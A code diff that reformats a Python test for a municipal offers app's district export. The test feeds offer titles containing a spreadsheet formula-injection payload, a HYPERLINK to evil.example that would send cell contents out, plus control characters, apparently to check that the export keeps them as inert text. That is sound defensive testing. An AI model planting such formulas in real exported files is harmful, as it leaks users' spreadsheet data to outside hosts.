@@ -6,20 +6,31 @@ import zipfile
 from datetime import date
 
 from gwa_desktop.domain.enums import OfferCategory
-from gwa_desktop.exchange.records import Period
-from gwa_desktop.domain.offer import OfferData, OfferTextData
-from gwa_desktop.services.offers import OfferService
-from gwa_desktop.services.district_export import export_district
 from gwa_desktop.domain.municipality import MunicipalityData
+from gwa_desktop.domain.offer import OfferData, OfferTextData
+from gwa_desktop.exchange.records import Period
+from gwa_desktop.services.district_export import export_district
+from gwa_desktop.services.offers import OfferService
 from gwa_desktop.services.settings import SettingsService
 from tests.exchange.package_helpers import workbook_of
 
 
 def test_formula_like_titles_and_control_characters_stay_harmless_text(database, tmp_path):
-    SettingsService(database).save(MunicipalityData(name="Gemeinde Lindenbach", district="Musterland"))
+    SettingsService(database).save(
+        MunicipalityData(name="Gemeinde Lindenbach", district="Musterland")
+    )
     offers = OfferService(database)
-    for title in ('=HYPERLINK("http://evil.example/?"&A1,"Kinder & Eltern")', "Spielenachmittag\x0bmit\x0cKaffee"):
-        offers.create(OfferData(texts=[OfferTextData("de", title)], category=OfferCategory.FAMILY, start_date=date(2026, 5, 4)))
+    for title in (
+        '=HYPERLINK("http://evil.example/?"&A1,"Kinder & Eltern")',
+        "Spielenachmittag\x0bmit\x0cKaffee",
+    ):
+        offers.create(
+            OfferData(
+                texts=[OfferTextData("de", title)],
+                category=OfferCategory.FAMILY,
+                start_date=date(2026, 5, 4),
+            )
+        )
 
     package = export_district(database, Period(date(2026, 1, 1), date(2026, 12, 31)), tmp_path)
 
